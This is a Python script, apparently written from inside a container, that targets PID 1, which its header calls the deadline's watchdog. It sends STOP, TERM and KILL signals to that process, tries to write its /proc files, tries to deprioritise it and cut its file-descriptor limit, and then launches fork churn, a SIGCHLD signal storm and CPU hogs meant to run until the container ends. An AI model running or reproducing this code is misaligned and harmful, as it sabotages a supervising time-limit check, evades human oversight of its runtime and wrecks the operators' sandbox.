# Review 2026-11-27c: everything the program can still aim at PID 1 (the deadline's watchdog), then pressure
# on its loop until the container ends: orphan churn (zombies reparented to PID 1), a SIGCHLD storm, CPU hogs.
import ctypes, os, signal, sys, time, errno
libc = ctypes.CDLL(None, use_errno=True)
def sc(name, *args):
    r = getattr(libc, name)(*args); e = ctypes.get_errno(); ctypes.set_errno(0)
    return '%s -> %d %s' % (name, r, errno.errorcode.get(e, '') if r == -1 else 'OK')
print('uid', os.getuid(), 'pid', os.getpid(), 'ppid', os.getppid(), flush=True)
for f in ['mem', 'environ', 'maps', 'fd', 'status', 'stat', 'cmdline', 'wchan', 'syscall', 'stack', 'timerslack_ns', 'oom_score_adj', 'comm', 'sched', 'loginuid', 'attr/current', 'clear_refs', 'coredump_filter']:
    p = '/proc/1/' + f
    out = []
    for mode in ('r', 'w'):
        try:
            if os.path.isdir(p):
                os.listdir(p); out.append(mode + ':ok'); break
            with open(p, mode + 'b', buffering=0) as fh:
                if mode == 'r': fh.read(64)
                else: fh.write(b'1000' if f == 'oom_score_adj' else b'1')
            out.append(mode + ':ok')
        except OSError as ex:
            out.append(mode + ':' + (errno.errorcode.get(ex.errno) or str(ex.errno)))
    print('/proc/1/%-14s %s' % (f, ' '.join(out)), flush=True)
for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGINT, signal.SIGTSTP, signal.SIGUSR1):
    os.kill(1, sig)
print(sc('tgkill', 1, 1, signal.SIGSTOP), '| kill(1, STOP/TERM/KILL/INT/TSTP/USR1) sent', flush=True)
print(sc('prctl', 4, 2, 0, 0, 0), '(PR_SET_DUMPABLE 2)', flush=True)
print(sc('prctl', 36, 1, 0, 0, 0), '(PR_SET_CHILD_SUBREAPER)', flush=True)
print(sc('setpriority', 0, 1, 19), sc('syscall', 144, 1, 5, ctypes.byref(ctypes.c_int(0))), '(setpriority / sched_setscheduler IDLE on 1)', flush=True)
class RL(ctypes.Structure): _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]
old = RL()
print(sc('prlimit', 1, 9, None, ctypes.byref(old)), 'PID 1 RLIMIT_AS', old.cur, old.max, flush=True)
# lower PID 1's RLIMIT_NOFILE to 3: its fds are open already; does anything it does later need a new one?
print(sc('prlimit', 1, 7, ctypes.byref(RL(3, 3)), None), '(prlimit(1, NOFILE, 3))', flush=True)
time.sleep(0.5)
print('PID 1 state after the signals:', open('/proc/1/stat').read().split()[2], flush=True)
# pressure until the container ends
def churn():
    while True:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.001); continue
        if pid == 0:
            try:
                if os.fork() == 0:
                    os._exit(0)   # grandchild: orphaned at once, a zombie of PID 1
            except OSError:
                pass
            os._exit(0)
        os.waitpid(pid, 0)
def storm():
    k = os.kill
    while True:
        for _ in range(1000):
            k(1, signal.SIGCHLD)
def hog():
    while True:
        pass
for fn in [churn, churn, storm, storm, storm] + [hog] * 6:
    if os.fork() == 0:
        fn()
print('pressure started at', round(time.monotonic(), 1), flush=True)
time.sleep(600)
